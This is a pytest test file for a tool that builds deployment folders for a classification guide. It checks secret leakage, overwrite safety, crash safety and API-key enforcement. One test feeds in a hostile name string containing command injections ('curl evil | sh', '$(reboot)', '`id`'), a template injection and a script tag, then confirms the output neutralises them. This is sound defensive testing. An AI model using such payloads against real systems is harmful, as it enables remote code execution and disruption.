"""Folders that put a guide online: they need nothing else, tell nothing of this computer, and overwrite nothing."""

import base64
import errno
import hashlib
import json
import os
import random
import re
import shlex
import shutil
import signal
import subprocess
import sys
import time
import tomllib
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest
from test_publish import files_of
from test_serve import PICTURE
from typer.main import get_command

import fieldguide as fg
from command import TIMEOUT_S, check_two_lines, environment, ran, run, set_key, start
from conftest import make_project
from fieldguide.api import deploy as deploy_guide
from fieldguide.cli.commands import app
from fieldguide.errors import DiskFull, InputUnusable, NotReady, ProjectExists
from fieldguide.guide import open_guide, write_manifest
from fieldguide.project import Project
from fieldguide.records import DeployReport

SERVERS = ("docker", "heroku", "elastic-beanstalk", "spaces")
KEY = "0123456789abcdef"


def deploy(project: Project, to: str = "docker", **options: object) -> DeployReport:
    return fg.open_project(project.root).deploy(to, progress=None, **options)  # type: ignore[arg-type]


def texts(folder: Path) -> dict[str, str]:
    """Return what stands in the files of a deployment that are not the guide, Fieldguide, or the record."""
    names = [path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()]
    return {
        name: (folder / name).read_text(encoding="utf-8")
        for name in names
        if not name.startswith(("guide/", "site/")) and not name.endswith(".whl")
    }


def process_of(folder: Path) -> str:
    """Return the command line of the server in a deployment."""
    if (folder / "Procfile").exists():
        kind, _, process = (folder / "Procfile").read_text().strip().partition(": ")
        assert kind == "web"
        return process
    (line,) = re.findall(r"^CMD (.*)$", (folder / "Dockerfile").read_text(), re.MULTILINE)
    shell, option, process = json.loads(line)
    assert (shell, option) == ("sh", "-c")
    return str(process)


# What every target has to be


@pytest.mark.parametrize("to", SERVERS)
def test_a_folder_holds_all_that_the_server_needs(built: Project, to: str) -> None:
    report = deploy(built, to)
    folder = built.root / "deploy" / to
    assert (report.folder, report.files) == (str(folder), len(files_of(folder)) - 1)
    assert open_guide(folder / "guide").classify(PICTURE) == open_guide(built.guide_folder).classify(PICTURE)
    wheel, *pins = (folder / "requirements.txt").read_text().splitlines()
    assert (folder / wheel).is_file() and wheel.startswith("./fieldguide-")
    assert all(re.fullmatch(r"[a-z0-9-]+==[0-9][0-9a-z.]*", pin) for pin in pins), pins
    assert {"numpy", "onnxruntime", "pillow", "fastapi", "uvicorn"} <= {pin.partition("==")[0] for pin in pins}
    assert not {"torch", "scikit-learn", "timm"} & {pin.partition("==")[0] for pin in pins}
    assert process_of(folder).startswith("exec fieldguide serve --host 0.0.0.0 ")
    assert "$PORT" in process_of(folder) or "${PORT:-8000}" in process_of(folder)
    assert "--insecure" not in process_of(folder)
    assert all(command in (folder / "README.md").read_text() for command in report.commands)


@pytest.mark.parametrize("to", SERVERS)
def test_nothing_of_this_computer_gets_into_a_folder(built: Project, to: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FIELDGUIDE_API_KEY", "secret-of-this-computer")
    monkeypatch.setenv("PIP_INDEX_URL", "https://index.example/simple")
    monkeypatch.setenv("https_proxy", "http://proxy.example:3128")
    set_key(built.settings_file, "serve", 'host = "0.0.0.0"')
    set_key(built.settings_file, "serve", 'allowed_hosts = ["inside.example"]')
    set_key(built.settings_file, "serve", "insecure = true")
    set_key(built.settings_file, "serve", "max_bytes = 5_000_000")
    deploy(built, to)
    folder = built.root / "deploy" / to
    everything = "\n".join(texts(folder).values())
    for secret in ("secret-of", "index.example", "proxy.example", str(built.root), str(Path.home()), "inside.example"):
        assert secret not in everything, secret
    served = tomllib.loads((folder / "fieldguide.toml").read_text())["serve"]
    frames = {"frame_origins": ["https://huggingface.co"]} if to == "spaces" else {}
    assert served == {"max_bytes": 5_000_000, **frames}
    assert "--insecure" not in process_of(folder)
    for path in folder.rglob("*"):
        assert path.stat().st_mode & 0o777 == (0o755 if path.is_dir() else 0o644), path


def test_the_wheel_is_whole(built: Project, tmp_path: Path) -> None:
    deploy(built)
    (wheel,) = (built.root / "deploy" / "docker").glob("*.whl")
    with zipfile.ZipFile(wheel) as archive:
        names = archive.namelist()
        (record,) = [name for name in names if name.endswith(".dist-info/RECORD")]
        rows = [line.split(",") for line in archive.read(record).decode().splitlines()]
        assert {row[0] for row in rows} == set(names)
        for name, digest, size in rows:
            if name != record:
                content = archive.read(name)
                hashed = base64.urlsafe_b64encode(hashlib.sha256(content).digest()).decode().rstrip("=")
                assert (digest, size) == (f"sha256={hashed}", str(len(content)))
    info = record.removesuffix("/RECORD")
    assert {f"{info}/METADATA", f"{info}/WHEEL", f"{info}/entry_points.txt", f"{info}/licenses/LICENSE"} <= set(names)
    assert {"fieldguide/web/guide/index.html", "fieldguide/py.typed", "fieldguide_charts/shapes.json"} <= set(names)
    package = Path(fg.__file__).parent
    here = [path for path in package.rglob("*.*") if path.is_file() and not path.name.startswith(".")]
    installed = {f"fieldguide/{path.relative_to(package).as_posix()}" for path in here if path.suffix != ".pyc"}
    assert installed <= set(names)
    assert not [name for name in names if "__pycache__" in name or name.startswith(("tests", "docs"))]


def test_the_command_names_every_platform(built: Project) -> None:
    commands: object = get_command(app).commands["deploy"].params  # type: ignore[attr-defined]
    (option,) = [parameter for parameter in commands if parameter.name == "to"]  # type: ignore[attr-defined]
    assert option.help == "docker, heroku, elastic-beanstalk, spaces or static."
    report = deploy(built)
    out = ran("deploy", "--to", "docker", "-C", built.root)
    assert f"docker in {report.folder}" in out and "(as it was)" in out
    assert all(command in out.splitlines() or f"  {command}\n" in out for command in report.commands)
    refused = run("deploy", "--to", "nowhere", "-C", built.root)
    check_two_lines(refused, 65, "'nowhere' is no platform", "docker, heroku, elastic-beanstalk, spaces, static")


# The server


@contextmanager
def unpacked(folder: Path, place: Path) -> Iterator[dict[str, str]]:
    """Unpack the wheel of a deployment and yield the environment of a process that has it alone."""
    (wheel,) = folder.glob("*.whl")
    with zipfile.ZipFile(wheel) as archive:
        archive.extractall(place)
    program = place / "fieldguide-program" / "fieldguide"
    program.parent.mkdir()
    program.write_text(f'#!/bin/sh\nexec {shlex.quote(sys.executable)} -m fieldguide "$@"\n')
    program.chmod(0o755)
    path = f"{program.parent}{os.pathsep}{os.environ['PATH']}"
    yield {**environment(), "PYTHONPATH": str(place), "PATH": path}


def free_port() -> str:
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return str(probe.getsockname()[1])


def wait_until_ready(process: subprocess.Popen[str], port: str) -> None:
    deadline = time.monotonic() + TIMEOUT_S
    while True:
        assert process.poll() is None, process.communicate()
        assert time.monotonic() < deadline
        try:
            if httpx.get(f"http://127.0.0.1:{port}/ready", timeout=TIMEOUT_S).status_code == 200:
                return
        except httpx.TransportError:
            time.sleep(0.1)


def check_answers(port: str, guide: Path, key: str = KEY) -> None:
    """Check that a server gives the guide's answers, to who has the key."""
    address, wanted = f"http://127.0.0.1:{port}/v1/classify", open_guide(guide).classify(PICTURE)
    assert httpx.post(address, content=PICTURE, timeout=TIMEOUT_S).status_code == (401 if key else 200)
    headers = {"Authorization": f"Bearer {key}"} if key else {}
    answer = httpx.post(address, content=PICTURE, headers=headers, timeout=TIMEOUT_S).json()
    probs = {row["class_name"]: row["prob"] for row in answer["probs"]}
    assert probs == pytest.approx(wanted.probs, abs=1e-5)
    assert (answer["class_name"] or "", answer["declined"]) == (wanted.class_name, wanted.declined)
    page = httpx.get(f"http://127.0.0.1:{port}/", headers=headers, timeout=TIMEOUT_S)
    parts = re.findall(r'(?:src|href)="\./([^"]+)"', page.text)
    assert page.status_code == 200 and any(part.startswith("assets/") for part in parts)
    for part in parts:
        assert httpx.get(f"http://127.0.0.1:{port}/{part}", headers=headers, timeout=TIMEOUT_S).status_code == 200, part


@pytest.mark.parametrize(
    "insecure", [pytest.param(False, id="with a key"), pytest.param(True, id="insecure", marks=pytest.mark.slow)]
)
def test_the_server_in_a_folder_answers_as_the_guide_does(built: Project, insecure: bool, tmp_path: Path) -> None:
    deploy(built, "heroku", insecure=insecure)
    folder, port = built.root / "deploy" / "heroku", free_port()
    with unpacked(folder, tmp_path / "unpacked") as variables:
        command = ["sh", "-c", process_of(folder)]
        variables = {**variables, "PORT": port, **({} if insecure else {"FIELDGUIDE_API_KEY": KEY})}
        process = subprocess.Popen(
            command, cwd=folder, env=variables, text=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE
        )
        try:
            wait_until_ready(process, port)
            check_answers(port, built.guide_folder, "" if insecure else KEY)
        finally:
            process.terminate()
            _, errors = process.communicate(timeout=TIMEOUT_S)
        assert ("whoever can reach" in errors) == insecure
        if not insecure:
            del variables["FIELDGUIDE_API_KEY"]
            refused = subprocess.run(command, cwd=folder, env=variables, text=True, capture_output=True, check=False)
            check_two_lines(refused, 78, "can be reached from the network, so it needs an API key")


# Nothing that it did not write is overwritten


def test_a_second_run_writes_nothing(built: Project) -> None:
    assert deploy(built).written
    folder = built.root / "deploy" / "docker"
    before = {path: path.stat().st_mtime_ns for path in folder.rglob("*")}
    again = deploy(built)
    assert not again.written
    assert {path: path.stat().st_mtime_ns for path in folder.rglob("*")} == before
    (folder / "README.md").unlink()
    assert deploy(built).written and (folder / "README.md").is_file()


def test_another_guide_takes_the_place_and_a_history_stays(built: Project) -> None:
    deploy(built)
    folder = built.root / "deploy" / "docker"
    (folder / ".git").mkdir()
    (folder / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (folder / ".gitignore").write_text("*.log\n")
    (built.guide_folder / "README.md").write_text("edited")
    assert deploy(built, insecure=True).written
    assert "--insecure" in process_of(folder)
    assert (folder / "guide" / "README.md").read_text() == "edited"
    assert (folder / ".git" / "HEAD").read_text() == "ref: refs/heads/main\n"
    assert (folder / ".gitignore").read_text() == "*.log\n"


@pytest.mark.parametrize("what", ["a folder of one's own", "one more file", "a changed file", "a link"])
def test_what_is_not_its_own_stays(built: Project, what: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    if what == "a folder of one's own":
        out.mkdir()
        (out / "thesis.txt").write_text("years of work")
        expected = "holds files that no deployment wrote"
    else:
        deploy(built, out=out)
        expected = "was changed since the deployment was written"
        if what == "one more file":
            (out / "guide" / "notes.txt").write_text("mine")
            expected = "is not of the deployment in that folder"
        elif what == "a changed file":
            (out / "Dockerfile").write_text("FROM mine")
        else:
            (out / "Dockerfile").rename(tmp_path / "Dockerfile")
            (out / "Dockerfile").symlink_to(tmp_path / "Dockerfile")
    before = files_of(out)
    with pytest.raises(ProjectExists, match=expected) as refused:
        deploy(built, "heroku", out=out)
    assert "--out DIR" in refused.value.hint
    assert files_of(out) == before


def test_places_that_cannot_be(built: Project, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(InputUnusable, match="is a file"):
        deploy(built, out=tmp_path / "file")
    for name in ("guide", "guide/deploy", "images", "."):
        with pytest.raises(InputUnusable, match="where the project keeps its own files"):
            deploy(built, out=built.root / name)
    with pytest.raises(NotReady, match="no guide yet"):
        deploy(make_project(tmp_path / "new"))
    guide = shutil.copytree(built.guide_folder, tmp_path / "guide")
    with pytest.raises(InputUnusable, match="is inside the guide"):
        deploy_guide("docker", guide=guide, out=guide / "x", progress=None)
    with pytest.raises(InputUnusable, match="made of a project's web form"):
        deploy_guide("static", guide=guide, progress=None)


def test_a_guide_without_a_project_is_deployed(built: Project, tmp_path: Path) -> None:
    guide = shutil.copytree(built.guide_folder, tmp_path / "got")
    assert deploy_guide("spaces", guide=guide, progress=None).folder == str(tmp_path / "deploy-spaces")
    assert open_guide(tmp_path / "deploy-spaces" / "guide").classify(PICTURE) == open_guide(guide).classify(PICTURE)
    (guide / "model.onnx").write_bytes(b"altered")
    check_two_lines(run("deploy", "--to", "docker", "--guide", guide), 6, "model.onnx has been altered")
    assert not (tmp_path / "deploy-docker").exists()


def test_a_full_disk_leaves_the_old_folder(built: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    deploy(built)
    folder = built.root / "deploy" / "docker"
    before = files_of(folder)

    def fail(*_: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr("fieldguide.stages.deploy.shutil.copyfile", fail)
        with pytest.raises(DiskFull):
            deploy(built, insecure=True)
    assert files_of(folder) == before
    assert [path.name for path in folder.parent.iterdir()] == ["docker"]


@pytest.mark.slow
def test_killed_at_any_moment_it_leaves_nothing_half(built: Project) -> None:
    dice = random.Random(14)
    folder = built.root / "deploy" / "docker"
    begun = time.monotonic()
    deploy(built)
    took, killed = time.monotonic() - begun, 0
    known = {bool(insecure): deploy(built, insecure=insecure) and files_of(folder) for insecure in (False, True)}
    for turn in range(40):
        insecure = bool(turn % 2)
        process = start("deploy", "--to", "docker", "-C", built.root, *(["--insecure"] if insecure else []))
        time.sleep(dice.uniform(0, 4 * took))
        process.send_signal(signal.SIGKILL)
        process.communicate()
        killed += process.returncode != 0
        assert files_of(folder) in known.values()
    assert killed >= 10
    deploy(built)
    assert files_of(folder) == known[False]
    assert [path.name for path in folder.parent.iterdir()] == ["docker"]


# Text from outside


HOSTILE = 'Rosen "; RUN curl evil | sh\n{{ 7*7 }} $(reboot) `id` <script>alert(1)</script> \N{ROSE}'


@pytest.mark.parametrize("to", SERVERS)
def test_a_hostile_name_runs_nothing(built: Project, to: str, tmp_path: Path) -> None:
    yaml = pytest.importorskip("yaml")
    guide = shutil.copytree(built.guide_folder, tmp_path / "guide")
    about = json.loads((guide / "guide.json").read_text())
    (guide / "guide.json").write_text(json.dumps({**about, "name": HOSTILE, "about": HOSTILE}))
    (guide / "MANIFEST").unlink()
    write_manifest(guide)
    report = deploy_guide(to, guide=guide, progress=None)
    folder, out = tmp_path / f"deploy-{to}", "\n".join(report.commands)
    files = texts(folder)
    readme = files.pop("README.md")
    matter, _, page = readme.rpartition("---\n")
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert tomllib.loads(files.pop("fieldguide.toml"))["name"] == HOSTILE
    if "app.json" in files:
        assert json.loads(files.pop("app.json"))["description"].startswith("Rosen")
    for name, text in {**files, "output": out}.items():
        assert not re.search(r"evil|reboot|`id`|script>|7\*7", text.replace("rosen-run-curl-evil-sh-7-7-reb", "")), name
    if to == "spaces":
        stated = yaml.safe_load(matter.removeprefix("---\n"))
        assert stated["title"] == " ".join(HOSTILE.split()) and stated["sdk"] == "docker"
        assert len(stated["short_description"]) <= 60
